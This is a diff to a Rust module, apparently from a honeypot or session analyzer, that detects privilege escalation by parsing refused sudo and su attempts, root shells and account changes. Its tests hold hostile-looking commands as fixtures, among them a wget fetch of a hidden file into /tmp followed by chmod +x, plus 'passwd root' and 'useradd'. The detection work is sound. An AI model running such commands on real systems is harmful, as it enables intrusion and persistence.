@@ -1,5 +1,6 @@
-//! Privilege escalation in a session's commands: sudo refusals (the analyzer
-//! records them as `sudo(denied) COMMAND`), root shells (`su -`, `sudo -i`,
+//! Privilege escalation in a session's commands: sudo and su refusals (the
+//! analyzer records them as `sudo(denied: WHY) COMMAND`, WHY being sudo's own
+//! words, and `su(denied) TARGET`), root shells (`su -`, `sudo -i`,
 //! `sudo bash`), account changes (`useradd`, `usermod -aG sudo`, `passwd
 //! root`, and the account tools' own lines) and risky commands attempted
 //! through a refused sudo.
@@ -11,8 +12,30 @@
 
 use bfp_common::fingerprint::is_risky_command;
 
-/// Prefix the analyzer gives a command sudo refused.
-pub const REFUSED_PREFIX: &str = "sudo(denied) ";
+/// Prefix the analyzer gives a command sudo refused (`sudo(denied) CMD`, or
+/// with sudo's reason `sudo(denied: user NOT in sudoers) CMD`).
+pub const REFUSED_PREFIX: &str = "sudo(denied";
+/// Prefix the analyzer gives a user switch su refused (`su(denied) root`).
+pub const SU_REFUSED_PREFIX: &str = "su(denied) ";
+
+/// Whether a session's command line is a refusal rather than a command that ran.
+pub fn is_refused(line: &str) -> bool {
+    line.starts_with(REFUSED_PREFIX) || line.starts_with(SU_REFUSED_PREFIX)
+}
+
+/// A refusal's parts: the tool (`sudo`, `su`), why (sudo's words, when
+/// recorded) and the command attempted (`su TARGET` for su).
+fn refusal(line: &str) -> Option<(&'static str, Option<&str>, String)> {
+    if let Some(target) = line.strip_prefix(SU_REFUSED_PREFIX) {
+        return Some(("su", Some("authentication failure"), format!("su {}", target.trim())));
+    }
+    let rest = line.strip_prefix(REFUSED_PREFIX)?;
+    if let Some(command) = rest.strip_prefix(") ") {
+        return Some(("sudo", None, command.to_string()));
+    }
+    let (why, command) = rest.strip_prefix(": ")?.split_once(") ")?;
+    Some(("sudo", Some(why), command.to_string()))
+}
 
 /// Refused commands quoted in a reason, at most.
 const QUOTED: usize = 2;
@@ -27,6 +50,12 @@ pub struct Escalation {
     pub refused_dangerous: u32,
     /// The first refused commands, as attempted (for the reasons).
     pub refused_sample: Vec<String>,
+    /// Which tools refused (`sudo`, `su`, in order of first refusal).
+    pub refused_by: Vec<&'static str>,
+    /// Why the first refusal that says was refused, in the tool's words
+    /// (`user NOT in sudoers`, `command not allowed`, `3 incorrect password
+    /// attempts`, `authentication failure`).
+    pub refused_why: Option<String>,
     /// A root shell ran (`sudo -i`, `sudo su -`, `sudo bash`).
     pub root_shell: bool,
     /// An account was created or changed, or given a privileged group, or
@@ -39,13 +68,19 @@ impl Escalation {
     pub fn of(commands: &[String]) -> Escalation {
         let mut e = Escalation::default();
         for line in commands {
-            if let Some(command) = line.strip_prefix(REFUSED_PREFIX) {
+            if let Some((tool, why, command)) = refusal(line) {
                 e.refused += 1;
-                if is_dangerous(command) {
+                if is_dangerous(&command) {
                     e.refused_dangerous += 1;
                 }
                 if e.refused_sample.len() < QUOTED {
-                    e.refused_sample.push(short_command(command));
+                    e.refused_sample.push(short_command(&command));
+                }
+                if !e.refused_by.contains(&tool) {
+                    e.refused_by.push(tool);
+                }
+                if e.refused_why.is_none() {
+                    e.refused_why = why.map(str::to_string);
                 }
                 continue;
             }
@@ -64,13 +99,14 @@ impl Escalation {
     }
 
     /// The escalation in an operator's words (empty when there is none),
-    /// e.g. "sudo refused 2 times, tried `passwd root`, `su -`".
+    /// e.g. "sudo refused 2 times (user NOT in sudoers), tried `passwd root`, `su -`".
     pub fn reasons(&self) -> Vec<String> {
         let mut out = Vec::new();
         if self.refused > 0 {
             let times = if self.refused == 1 { String::new() } else { format!(" {} times", self.refused) };
+            let why = self.refused_why.as_ref().map_or(String::new(), |w| format!(" ({w})"));
             let tried: Vec<String> = self.refused_sample.iter().map(|c| format!("`{c}`")).collect();
-            out.push(format!("sudo refused{times}, tried {}", tried.join(", ")));
+            out.push(format!("{} refused{times}{why}, tried {}", self.refused_by.join("/"), tried.join(", ")));
         }
         if self.root_shell {
             out.push("opened a root shell".to_string());
@@ -146,6 +182,21 @@ mod tests {
         assert_eq!((e.refused, e.refused_dangerous), (1, 1));
         assert!(e.is_evidence());
         assert_eq!(e.reasons(), vec!["sudo refused, tried `passwd root`"]);
+        // With sudo's reason, as the analyzer records it.
+        let e = Escalation::of(&cmds(&["sudo(denied: user NOT in sudoers) /usr/bin/passwd root"]));
+        assert_eq!(e.reasons(), vec!["sudo refused (user NOT in sudoers), tried `passwd root`"]);
+        let e = Escalation::of(&cmds(&["sudo(denied: 3 incorrect password attempts) /usr/sbin/useradd -m helpdesk"]));
+        assert!(e.is_evidence());
+        assert_eq!(e.reasons(), vec!["sudo refused (3 incorrect password attempts), tried `useradd -m helpdesk`"]);
+    }
+
+    #[test]
+    fn a_refused_su_is_a_refused_root_shell() {
+        let e = Escalation::of(&cmds(&["su(denied) root", "sudo(denied: user NOT in sudoers) /usr/bin/su -"]));
+        assert_eq!((e.refused, e.refused_dangerous), (2, 2));
+        assert!(e.is_evidence());
+        assert_eq!(e.reasons(), vec!["su/sudo refused 2 times (authentication failure), tried `su root`, `su -`"]);
+        assert!(is_refused("su(denied) root") && is_refused("sudo(denied) /bin/ls") && !is_refused("su root"));
     }
 
     #[test]
@@ -157,7 +208,7 @@ mod tests {
             "/usr/bin/wget http://h/x -O /tmp/.x",
             "/bin/chmod +x /tmp/.x",
         ] {
-            let e = Escalation::of(&cmds(&[&format!("{REFUSED_PREFIX}{refused}")]));
+            let e = Escalation::of(&cmds(&[&format!("{REFUSED_PREFIX}) {refused}")]));
             assert!(e.is_evidence(), "{refused}");
         }
     }
